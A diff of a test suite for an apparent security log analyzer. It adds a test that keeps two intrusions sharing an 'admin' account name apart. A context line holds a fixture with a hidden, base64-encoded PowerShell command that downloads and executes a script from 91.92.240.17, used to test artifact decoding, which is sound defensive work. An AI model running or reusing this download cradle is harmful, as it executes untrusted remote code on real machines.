@@ -76,6 +76,14 @@ describe('analyze: scopes', () => {
     expect(findings.timeline.every((t) => t.description.startsWith('[incident-1]'))).toBe(true);
   });
 
+  it('campaign: keeps unrelated intrusions apart even when they share a common account name', () => {
+    const d1 = (JSON.parse(fs.readFileSync(SCENARIO, 'utf8')) as { request: AnalysisRequest }).request.events.logs as unknown[];
+    const brute = failures('91.92.240.17', 0).map((e) => ({ ...e, user: 'admin' }));
+    const findings = analyze({ scope: 'campaign', events: { logs: [...brute, ...d1] } }, deps);
+    expect(findings.incidents?.map((i) => i.indicators.slice(0, 1))).toEqual([['185.220.101.42'], ['91.92.240.17']]);
+    expect(narrateDeterministic(findings).summary).toMatch(/2 related incidents/);
+  });
+
   it('artifact: decodes the encoded command and reports what it fetches', () => {
     const cmd = `powershell -nop -w hidden -enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://91.92.240.17/s.ps1')")}`;
     const request: AnalysisRequest = { scope: 'artifact', events: { logs: [{ timestamp: at(0), source: 'endpoint', action: 'process_create', host: 'WS-1', user: 'bob', process: 'powershell.exe', command_line: cmd }] } };
